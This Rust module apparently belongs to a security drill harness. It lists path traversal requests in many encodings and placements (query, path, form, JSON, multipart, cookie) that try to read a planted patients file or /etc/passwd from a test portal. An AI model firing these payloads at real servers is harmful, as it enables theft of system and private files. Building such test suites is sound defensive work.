//! Path traversal: out of the download folder, to a planted file or `/etc/passwd`.

use serde_json::json;

use super::encode::{json_escaped, percent, percent_twice};
use super::{Attack, AttackClass, Encoding, Place, Proof};
use crate::drill::request::{Field, Request};
use crate::portal::SECRET_MARK;

const PLANTED: Proof = Proof::Leaks(SECRET_MARK);
const PASSWD: Proof = Proof::Leaks("root:x:0:0");

const TO_PLANTED: &str = "../../secret/patients.csv";
/// More steps than any folder is deep.
const TO_PASSWD: &str = "../../../../../../../../../../../../../../../../etc/passwd";

fn traversal(place: Place, encoding: Encoding, name: &'static str, request: Request, proof: Proof) -> Attack {
    Attack::new(AttackClass::Traversal, place, encoding, name, request, proof)
}

pub(super) fn all() -> Vec<Attack> {
    use Encoding::{DoublePercent, JsonEscape, Obfuscated, Percent, Plain};
    use Place::{Cookie, Form, Json, Multipart, Path, Query};
    let download = || Request::get("/download");
    let files = || Request::get("/files/");
    let read = || Request::post("/api/v1/files/read");
    let encoded_dots = TO_PLANTED.replace('.', "%2e").replace('/', "%2f");
    vec![
        traversal(Query, Plain, "dots and slashes", download().raw_query(&format!("file={TO_PLANTED}")), PLANTED),
        traversal(Query, Percent, "slashes encoded", download().query("file", TO_PLANTED), PLANTED),
        traversal(Query, Percent, "dots encoded", download().raw_query(&format!("file={encoded_dots}")), PLANTED),
        traversal(
            Query,
            DoublePercent,
            "encoded twice",
            download().raw_query(&format!("file={}", percent_twice(TO_PLANTED))),
            PLANTED,
        ),
        traversal(Query, Plain, "password file", download().raw_query(&format!("file={TO_PASSWD}")), PASSWD),
        traversal(Query, Percent, "absolute", download().query("file", "/etc/passwd"), PASSWD),
        traversal(Query, Percent, "file URL", download().query("file", "file:///etc/passwd"), PASSWD),
        traversal(Query, Obfuscated, "backslashes", download().query("file", "..\\..\\secret\\settings.ini"), PLANTED),
        traversal(
            Path,
            Percent,
            "encoded slashes in the path",
            files().raw_path("..%2f..%2fsecret%2fpatients.csv"),
            PLANTED,
        ),
        traversal(
            Path,
            Percent,
            "encoded dots in the path",
            files().raw_path("%2e%2e%2f%2e%2e%2fsecret%2fsettings.ini"),
            PLANTED,
        ),
        traversal(
            Path,
            Obfuscated,
            "doubled against a filter",
            files().raw_path("....%2f%2f....%2f%2fsecret%2fpatients.csv"),
            PLANTED,
        ),
        traversal(Form, Percent, "in a form", Request::post("/download").form(&[("file", TO_PLANTED)]), PLANTED),
        traversal(Json, Plain, "in JSON", read().json(&json!({"file": TO_PASSWD})), PASSWD),
        traversal(
            Json,
            JsonEscape,
            "in JSON escapes",
            read().body("application/json", json_escaped("file", TO_PLANTED)),
            PLANTED,
        ),
        traversal(
            Multipart,
            Plain,
            "in a part",
            Request::post("/download").multipart(&[Field::Text { name: "file", value: TO_PLANTED }]),
            PLANTED,
        ),
        traversal(
            Cookie,
            Plain,
            "in a cookie",
            Request::get("/my").cookie("HSID", "s-2f60c7d8").cookie("skin", TO_PASSWD),
            PASSWD,
        ),
        traversal(
            Cookie,
            Percent,
            "in a cookie, encoded",
            Request::get("/my").cookie("HSID", "s-2f60c7d8").cookie("skin", &percent(TO_PLANTED)),
            PLANTED,
        ),
    ]
}
